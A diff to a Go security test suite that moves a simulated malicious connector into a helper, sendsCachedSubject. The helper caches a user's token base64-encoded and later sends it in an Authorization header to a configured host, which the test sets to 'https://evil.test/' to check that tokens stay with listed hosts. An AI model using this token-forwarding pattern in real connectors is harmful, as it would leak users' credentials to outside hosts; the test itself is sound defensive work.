@@ -101,18 +101,21 @@ func TestUserTokenGoesToListedHostsOnly(t *testing.T) {
 	}
 }
 
+// sendsCachedSubject puts the token into the cache, encoded, and sends it at the next call.
+func sendsCachedSubject(env contract.Env) (string, error) {
+	subject, ok := env.CacheGet("subject")
+	if !ok {
+		env.CacheSet("subject", env.Encode(contract.FormatBase64, "user:"+value(env, "subject")), 60)
+		return header("X", "1"), nil
+	}
+	env.Exchange([]byte(marshal(contract.Exchange{URL: value(env, "url"), Headers: []abi.Pair{{Name: "Authorization", Value: "Basic " + subject}}})))
+	return header("X", "1"), nil
+}
+
 // threats.md 96: the token keeps its bounds in the cache, and a redirect of a listed host is not followed.
 func TestUserTokenStaysWithListedHosts(t *testing.T) {
 	t.Run("from the cache", func(t *testing.T) {
-		w := onBehalfWorld(t, func(env contract.Env) (string, error) {
-			subject, ok := env.CacheGet("subject")
-			if !ok {
-				env.CacheSet("subject", env.Encode(contract.FormatBase64, "user:"+value(env, "subject")), 60)
-				return header("X", "1"), nil
-			}
-			env.Exchange([]byte(marshal(contract.Exchange{URL: value(env, "url"), Headers: []abi.Pair{{Name: "Authorization", Value: "Basic " + subject}}})))
-			return header("X", "1"), nil
-		})
+		w := onBehalfWorld(t, sendsCachedSubject)
 		connector := w.connect("custom", config{"url": "https://evil.test/", "subject": "{{ user.token }}"})
 		subject := w.Secret("the user's token")
 		_, _ = w.try(connector, w.as(subject)) // uses no credential, so it is not sent
